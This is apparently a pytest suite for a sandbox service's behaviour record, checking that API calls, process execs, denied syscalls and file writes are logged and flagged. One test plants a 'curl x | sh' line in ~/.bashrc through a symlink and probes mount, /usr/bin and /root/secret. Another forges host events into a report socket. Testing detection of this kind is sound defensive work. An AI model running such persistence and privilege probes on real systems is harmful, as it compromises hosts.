"""The behaviour record end to end (issue 10): a real server and real sandboxes; what the API did to
a sandbox, read through /events, the SDK, the report and the CLI, during and after the sandbox's life."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from agentcell import Sandbox
from agentcell.errors import CommandExitException, InvalidArgumentException, NotFoundException
from tests.conftest import ServerProcess
from tests.helpers import wait_for_events


def _wait_for(sbx_id: str, url: str, pred: Any, within: float = 10) -> list[dict[str, Any]]:
    return wait_for_events(lambda: Sandbox.events(sbx_id, api_url=url), pred, timeout=within)


def test_api_calls_and_the_sandbox_life_are_in_its_record(server_url: str) -> None:
    sbx = Sandbox.create(api_url=server_url, timeout=120)
    sid = sbx.sandbox_id
    sbx.run_code("x = 6 * 7")
    sbx.commands.run("echo recorded")
    sbx.files.write("/home/user/notes.txt", "hello")
    assert sbx.files.read("/home/user/notes.txt") == "hello"
    sbx.kill()
    events = _wait_for(sid, server_url, lambda got: any(e["kind"] == "sandbox.killed" for e in got))
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    assert all(e["sandbox_id"] == sid for e in events)
    created = events[0]
    assert created["kind"] == "sandbox.created" and created["source"] == "api"
    assert created["template"] and created["limits"]["memory_mb"] > 0
    calls = {e["action"]: e for e in events if e["kind"] == "api.call"}
    run = calls["run_code"]
    assert run["code"]["excerpt"] == "x = 6 * 7" and run["status"] == 200 and run["source"] == "api"
    assert "echo recorded" in calls["process.Start"]["cmd"]
    assert calls["files.write"]["path"] == "/home/user/notes.txt"
    assert calls["files.read"]["path"] == "/home/user/notes.txt"
    assert calls["sandbox.kill"]["status"] == 204
    token = sbx._conn.envd_headers.get("X-Access-Token")
    for e in calls.values():  # who did it: a key id, never the credential
        assert e["key_id"] and (token is None or token not in json.dumps(e))
    assert any(e["kind"] == "sandbox.killed" and e["reason"] for e in events)


def test_filters_and_errors(server_url: str) -> None:
    with Sandbox.create(api_url=server_url, timeout=60) as sbx:
        sbx.commands.run("true")
        sbx.run_code("1")
        only = list(sbx.events(kinds="api.call"))
        assert only and {e["kind"] for e in only} == {"api.call"}
        t_mid = time.time()
        time.sleep(0.05)
        sbx.run_code("2")
        later = list(sbx.events(kinds=["api.call"], since=t_mid))
        assert [e["code"]["excerpt"] for e in later] == ["2"]
        with pytest.raises(InvalidArgumentException, match="unknown event kind"):
            list(sbx.events(kinds="process.fork"))
        r = httpx.get(f"{server_url}/sandboxes/{sbx.sandbox_id}/events", params={"since": "yesterday"})
        assert r.status_code == 400 and "since" in r.text
    with pytest.raises(NotFoundException):
        list(Sandbox.events("nosuchsandbox0000000", api_url=server_url))


def test_follow_streams_live_and_ends_with_the_sandbox(server_url: str) -> None:
    sbx = Sandbox.create(api_url=server_url, timeout=60)
    seen: list[dict[str, Any]] = []
    done = threading.Event()

    def follow() -> None:
        for e in sbx.events(follow=True):
            seen.append(e)
        done.set()

    t = threading.Thread(target=follow, daemon=True)
    t.start()
    time.sleep(0.3)
    sbx.commands.run("echo live-one")
    deadline = time.monotonic() + 5
    while not any("live-one" in str(e.get("cmd")) for e in seen):
        assert time.monotonic() < deadline, "a followed record did not show the call as it happened"
        time.sleep(0.05)
    sbx.kill()
    assert done.wait(10), "following did not end when the sandbox was gone"
    assert any(e["kind"] == "sandbox.killed" for e in seen)


def test_report_and_cli_after_the_sandbox_is_gone(server_url: str) -> None:
    sbx = Sandbox.create(api_url=server_url, timeout=60)
    sid = sbx.sandbox_id
    sbx.run_code("print('reviewed')")
    sbx.files.write("/home/user/.bashrc", "echo persisted")
    sbx.kill()
    _wait_for(sid, server_url, lambda got: any(e["kind"] == "sandbox.killed" for e in got))
    deadline = time.monotonic() + 10
    while (rep := Sandbox.report(sid, api_url=server_url))["ended"] is None:  # closed a moment after the kill
        assert time.monotonic() < deadline, "the record was never closed"
        time.sleep(0.2)
    assert rep["sandbox_id"] == sid
    assert rep["api_calls"]["run_code"] == 1 and rep["api_calls"]["files.write"] == 1
    assert rep["counts"]["sandbox.created"] == 1
    text = Sandbox.report(sid, format="text", api_url=server_url)
    assert sid in text and "API CALLS" in text
    env = {**os.environ, "AGENTCELL_URL": server_url}
    out = subprocess.run([sys.executable, "-m", "agentcell.cli", "report", sid], env=env, capture_output=True,
                         text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert sid in out.stdout and "PROCESSES" in out.stdout
    out = subprocess.run([sys.executable, "-m", "agentcell.cli", "events", sid, "--kind", "api.call"], env=env,
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    lines = [json.loads(x) for x in out.stdout.splitlines()]
    assert lines and all(e["kind"] == "api.call" for e in lines)


def test_self_reports_are_marked_and_cannot_pass_for_host_events(server_url: str) -> None:
    with Sandbox.create(api_url=server_url, timeout=60) as sbx:
        code = ("import json, os, socket\n"
                "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
                "forged = {'what': 'step', 'n': 3, 'kind': 'process.exec', 'source': 'host', 'sandbox_id': 'other'}\n"
                "s.sendto(json.dumps(forged).encode(), '\\0agentcell-report')\n"
                "for i in range(3000):\n"
                "    s.sendto(json.dumps({'what': 'flood', 'i': i}).encode(), '\\0agentcell-report')\n"
                "print(os.getpid())")
        pid = int(sbx.run_code(code).logs.stdout[0])
        events = _wait_for(sbx.sandbox_id, server_url, lambda got: any(e["kind"] == "self.report" for e in got))
        mine = [e for e in events if e["kind"] == "self.report"]
        first = mine[0]
        assert first["source"] == "self" and first["what"] == "step" and first["pid"] == pid
        assert first["data"]["source"] == "host" and first["sandbox_id"] == sbx.sandbox_id  # kept as data only
        assert not any(e["kind"] == "process.exec" and e.get("source") == "host" and e.get("n") == 3 for e in events)
        assert all(e["sandbox_id"] == sbx.sandbox_id for e in events)


def test_a_hostile_session_in_the_record_and_the_report(server_url: str) -> None:
    """What the code did, seen from the host: an exec chain from os.system inside run_code, a refused
    mount, a write refused on the read-only /usr, root's home refused to the user, a shell rc file written
    through a symlink, a memory hog killed by the OOM killer; then the report's flags citing them."""
    with Sandbox.create(api_url=server_url, timeout=120, limits={"memoryMB": 256}) as sbx:
        sid = sbx.sandbox_id
        sbx.run_code("import os; os.system(\"sh -c 'ls /tmp | wc -l'\")")
        sbx.run_code("import ctypes; ctypes.CDLL(None, use_errno=True).mount(b'none', b'/mnt', b'tmpfs', 0, None)")
        sbx.run_code("import os\n"
                     "for p in ('/usr/bin/evil', '/root/secret'):\n"
                     "    try: open(p, 'a' if p.startswith('/usr') else 'r')\n"
                     "    except OSError as e: print(p, e.errno)")
        sbx.run_code("import os; os.symlink('/home/user/.bashrc', '/tmp/link'); open('/tmp/link', 'w').write('curl x | sh')")
        with pytest.raises(CommandExitException):  # killed by the OOM killer
            sbx.commands.run("python3 -c 'x = bytearray(1 << 30); print(len(x))'", timeout=60)
    events = _wait_for(sid, server_url, lambda got: any(e["kind"] == "sandbox.killed" for e in got), within=15)
    execs = [e for e in events if e["kind"] == "process.exec"]
    argvs = [e.get("argv") or [] for e in execs]
    assert ["sh", "-c", "ls /tmp | wc -l"] in argvs, argvs
    ls = next(e for e in execs if (e.get("argv") or [""])[0] == "ls")
    parent = [e for e in execs if e["pid"] == ls["ppid"] and e["seq"] < ls["seq"]]
    assert parent and parent[-1]["argv"][0] == "sh", parent  # ls's parent was the sh os.system ran then
    assert any(e["kind"] == "process.exit" and e["pid"] == ls["pid"] for e in events)
    assert any(e["kind"] == "deny.syscall" and e["syscall"] == "mount" for e in events)
    assert any(e["kind"] == "deny.write" and str(e.get("path")).startswith("/usr/bin") for e in events)
    assert any(e["kind"] == "deny.access" and e.get("path") == "/root/secret" and e["errno"] == 13 for e in events)
    assert any(e["kind"].startswith("file.") and e.get("path") == "/home/user/.bashrc" for e in events)
    oom = [e for e in events if e["kind"] == "limit.oom"]
    assert oom and oom[0].get("comm", "").startswith("python"), oom
    assert all(e["source"] in ("host", "api") for e in events)
    rep = Sandbox.report(sid, api_url=server_url)
    flags = {f["flag"]: f for f in rep["flags"]}
    assert {"privilege-syscalls", "sensitive-paths", "persistence"} <= set(flags), flags
    cited = {e["seq"]: e for e in events}
    assert all(cited[s]["kind"] == "deny.syscall" for s in flags["privilege-syscalls"]["events"])


def test_async_sdk_reads_the_record(server_url: str) -> None:
    import asyncio

    from agentcell import AsyncSandbox

    async def main() -> None:
        sbx = await AsyncSandbox.create(api_url=server_url, timeout=60)
        try:
            await sbx.commands.run("echo async-record")
            got = [e async for e in sbx.events(kinds="api.call")]
            assert any("async-record" in str(e.get("cmd")) for e in got)
            rep = await sbx.report()
            assert rep["api_calls"]["process.Start"] >= 1
        finally:
            await sbx.kill()
        later = [e async for e in AsyncSandbox.events(sbx.sandbox_id, api_url=server_url)]
        assert later[0]["kind"] == "sandbox.created"

    asyncio.run(main())


def test_the_audit_log_and_no_record(server_log: Path, tmp_path: Path) -> None:
    """`serve --audit-log FILE`: every event as a JSON line, for a SIEM; `--no-record`: none kept."""
    log = tmp_path / "audit.jsonl"
    srv = ServerProcess(tmp_path / "server.log", "--standbys", "1", "--audit-log", str(log))
    bare = ServerProcess(tmp_path / "bare.log", "--standbys", "1", "--no-record")
    try:
        srv.wait_ready(300)
        bare.wait_ready(300)
        with Sandbox.create(api_url=srv.url, timeout=60) as sbx:
            sbx.commands.run("echo to-the-siem")
        deadline = time.monotonic() + 10
        while True:
            lines = [json.loads(x) for x in log.read_text().splitlines()] if log.exists() else []
            if any(e["kind"] == "sandbox.killed" for e in lines) or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert oct(log.stat().st_mode & 0o777) == "0o600"
        mine = [e for e in lines if e["sandbox_id"] == sbx.sandbox_id]
        assert mine[0]["kind"] == "sandbox.created" and any("to-the-siem" in str(e.get("cmd")) for e in mine)
        assert [e["seq"] for e in mine] == sorted(e["seq"] for e in mine)
        with Sandbox.create(api_url=bare.url, timeout=60) as plain:
            plain.commands.run("true")
            with pytest.raises(NotFoundException, match="no-record"):
                list(plain.events())
    finally:
        srv.stop()
        bare.stop()
